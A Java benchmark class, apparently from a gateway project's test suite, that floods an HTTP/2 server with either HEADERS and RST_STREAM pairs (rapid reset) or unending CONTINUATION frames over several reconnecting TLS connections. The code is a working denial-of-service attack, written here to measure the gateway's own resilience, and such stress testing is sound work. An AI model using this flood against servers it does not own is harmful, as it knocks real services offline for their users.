package com.foobar.benchmarks.gateway;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.cert.CertificateFactory;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicLong;

import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManagerFactory;

/**
 * Floods a gateway with frames that cost the sender next to nothing, and comes back as
 * often as it is thrown out: {@code gateway-scans} measures what that costs the gateway.
 */
public final class Http2Flood {

	private static final int CONNECTIONS = 4;

	private static final int FRAMES_AT_ONCE = 64;

	/** Who is thrown out waits for so long, as nobody has connections without end. */
	private static final long PAUSE_MILLIS = 50;

	private static final int HEADERS = 1;

	private static final int RST_STREAM = 3;

	private static final int CONTINUATION = 9;

	private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

	/** A GET in indexes of the static table, but for the host. */
	private static final byte[] GET = ByteBuffer.allocate(14)
		.put(new byte[] { (byte) 0x82, (byte) 0x84, (byte) 0x87, 0x01, 9 })
		.put("localhost".getBytes(StandardCharsets.US_ASCII))
		.array();

	private static final byte[] FIELD = { 0, 1, 'x', 1, 'y' };

	private final SSLContext trust;

	private final String host;

	private final int port;

	private final boolean resets;

	private final long end;

	private final AtomicLong frames = new AtomicLong();

	private final AtomicLong connections = new AtomicLong();

	private Http2Flood(SSLContext trust, String host, int port, boolean resets, long end) {
		this.trust = trust;
		this.host = host;
		this.port = port;
		this.resets = resets;
		this.end = end;
	}

	/** ADDRESS PORT AUTHORITY reset|continuation SECONDS. */
	static void main(String[] arguments) throws Exception {
		SSLContext trust = trusting(Path.of(arguments[2]));
		long end = System.nanoTime() + Long.parseLong(arguments[4]) * 1_000_000_000L;
		Http2Flood flood = new Http2Flood(trust, arguments[0], Integer.parseInt(arguments[1]),
				arguments[3].equals("reset"), end);
		try (ExecutorService attackers = Executors.newFixedThreadPool(CONNECTIONS)) {
			for (int i = 0; i < CONNECTIONS; i++) {
				attackers.execute(flood::attack);
			}
		}
		System.out.println(flood.connections + " " + flood.frames);
	}

	private static SSLContext trusting(Path authority) throws IOException, GeneralSecurityException {
		KeyStore store = KeyStore.getInstance(KeyStore.getDefaultType());
		store.load(null, null);
		try (InputStream in = Files.newInputStream(authority)) {
			store.setCertificateEntry("authority", CertificateFactory.getInstance("X.509").generateCertificate(in));
		}
		TrustManagerFactory trust = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
		trust.init(store);
		SSLContext context = SSLContext.getInstance("TLS");
		context.init(null, trust.getTrustManagers(), null);
		return context;
	}

	private void attack() {
		while (System.nanoTime() < this.end) {
			try (SSLSocket socket = (SSLSocket) this.trust.getSocketFactory().createSocket(this.host, this.port)) {
				SSLParameters parameters = socket.getSSLParameters();
				parameters.setApplicationProtocols(new String[] { "h2" });
				socket.setSSLParameters(parameters);
				this.connections.incrementAndGet();
				flood(socket.getOutputStream());
			}
			catch (IOException ex) {
				// Thrown out, as it should be.
			}
			try {
				Thread.sleep(PAUSE_MILLIS);
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
				return;
			}
		}
	}

	private void flood(OutputStream out) throws IOException {
		out.write(PREFACE);
		out.write(frame(4, 0, 0, new byte[0]));
		if (!this.resets) {
			out.write(frame(HEADERS, 1, 1, GET));
		}
		int stream = 1;
		while (System.nanoTime() < this.end) {
			ByteArrayOutputStream batch = new ByteArrayOutputStream();
			for (int i = 0; i < FRAMES_AT_ONCE; i += 2) {
				if (this.resets) {
					batch.writeBytes(frame(HEADERS, 5, stream, GET));
					batch.writeBytes(frame(RST_STREAM, 0, stream, new byte[] { 0, 0, 0, 8 }));
					stream += 2;
				}
				else {
					batch.writeBytes(frame(CONTINUATION, 0, 1, FIELD));
					batch.writeBytes(frame(CONTINUATION, 0, 1, FIELD));
				}
			}
			out.write(batch.toByteArray());
			this.frames.addAndGet(FRAMES_AT_ONCE);
		}
	}

	private static byte[] frame(int type, int flags, int stream, byte[] payload) {
		return ByteBuffer.allocate(9 + payload.length)
			.putShort((short) (payload.length >>> 8))
			.put((byte) payload.length)
			.put((byte) type)
			.put((byte) flags)
			.putInt(stream)
			.put(payload)
			.array();
	}

}
